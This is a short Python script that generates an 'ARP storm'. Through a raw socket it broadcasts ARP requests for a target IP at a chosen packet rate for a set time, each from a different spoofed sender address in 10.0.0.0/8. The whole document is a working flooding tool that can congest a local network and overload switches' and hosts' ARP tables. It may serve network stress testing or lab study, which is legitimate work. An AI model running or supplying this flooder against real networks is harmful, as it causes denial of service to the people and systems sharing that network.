#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""An ARP storm: arp_flood.py IFACE TARGET_IP PPS SECONDS.

Broadcasts ARP requests for TARGET_IP from IFACE's MAC at about PPS frames a
second (paced every millisecond) for SECONDS, each from another sender
address in 10.0.0.0/8, then prints "sent N". Stops by itself.
"""
import socket
import struct
import sys
import time

ifc, target, pps, secs = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
s.bind((ifc, 0))
mac = s.getsockname()[4]
head = b"\xff" * 6 + mac + b"\x08\x06" + struct.pack("!HHBBH6s", 1, 0x0800, 6, 4, 1, mac)
tail = b"\0" * 6 + socket.inet_aton(target) + b"\0" * 18
per_ms = max(1, pps // 1000)
sent = 0
start = time.monotonic()
while True:
    now = time.monotonic()
    if now - start >= secs:
        break
    due = int((now - start) * pps)
    while sent < due:
        for _ in range(per_ms):
            s.send(head + struct.pack("!I", 0x0a000000 | (sent & 0xffffff)) + tail)
            sent += 1
    time.sleep(0.001)
print("sent", sent)
